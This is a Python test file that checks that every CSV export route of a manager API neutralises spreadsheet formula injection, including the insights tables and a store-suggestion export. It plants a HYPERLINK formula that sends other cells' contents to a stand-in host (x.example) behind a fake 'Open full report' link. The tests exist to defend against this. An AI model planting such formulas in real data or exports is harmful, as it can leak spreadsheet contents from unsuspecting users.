"""Every CSV route answers planted formula text neutralised (``'`` first), never live.

The routes are found in the app (an OpenAPI ``text/csv`` answer, or a path ending in
``.csv``), so a new CSV route fails here until it is covered. The site suggestion's
export is fed a store really named as a formula; the insights tables hold only ids and
figures, so their queries are made to answer planted text.
"""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from manager_api import insights, insights_funnel
from services.insights import journey_queries, queries
from services.platform.uow import UnitOfWork
from stores.models import Store
from tests import factories
from tests.api.test_site_suggestions import _region_with_stores, _start

PLANTED = '=HYPERLINK("http://x.example/?"&B3&C3,"Open full report")'
PERIOD = {"start": "2026-11-14", "end": "2026-11-28"}
INSIGHTS = {
    "/manager/v1/insights/series": {},
    "/manager/v1/insights/breakdown": {"by": "store"},
    "/manager/v1/insights/payment_methods": {},
    "/manager/v1/insights/funnel": {},
}
SITES = "/manager/v1/site-suggestions/{job_id}/export.csv"


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _csv_routes(client: TestClient) -> set[str]:
    found = set()
    for path, operations in client.get("/openapi.json").json()["paths"].items():
        for operation in operations.values():
            content = operation.get("responses", {}).get("200", {}).get("content", {})
            if "text/csv" in content or path.endswith(".csv"):
                found.add(path)
    return found


def test_every_csv_route_is_covered_here(client: TestClient) -> None:
    assert _csv_routes(client) == {*INSIGHTS, SITES}


def test_insights_tables_neutralise_planted_formulas(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    figures: defaultdict[str, Any] = defaultdict(lambda: PLANTED)
    monkeypatch.setattr(queries, "series", lambda *a, **k: [(date(2026, 11, 20), figures)])
    monkeypatch.setattr(queries, "breakdown", lambda *a, **k: [(PLANTED, figures)])
    # The funnel's rows are ids; a planted name (a store or code named by staff) carries it.
    monkeypatch.setattr(journey_queries, "funnel", lambda *a, **k: [(7, 1, [("discover", 3)])])
    monkeypatch.setattr(insights_funnel, "names", lambda *a, **k: defaultdict(lambda: PLANTED))
    monkeypatch.setattr(insights, "payment_mix", lambda *a: [defaultdict(lambda: PLANTED)])
    headers = factories.new_manager_headers(hq=True)
    for path, params in INSIGHTS.items():
        answer = client.get(path, params={**PERIOD, **params, "format": "csv"}, headers=headers)
        assert answer.status_code == 200, (path, answer.text)
        cells = _cells(answer.text)
        assert f"'{PLANTED}" in cells and PLANTED not in cells, path


def test_the_site_export_neutralises_a_store_named_as_a_formula(client: TestClient) -> None:
    region_id, stores = _region_with_stores()
    with UnitOfWork() as uow:
        ids = [s.id for s in stores]
        uow.session.execute(update(Store).where(Store.id.in_(ids)).values(name=PLANTED))
        uow.commit()
    headers = factories.new_manager_headers((region_id,))
    job_id = _start(client, headers, region_id, k=2).json()["id"]
    exported = client.get(SITES.format(job_id=job_id), headers=headers)
    assert exported.status_code == 200
    cells = _cells(exported.text)
    assert f"'{PLANTED}" in cells and PLANTED not in cells
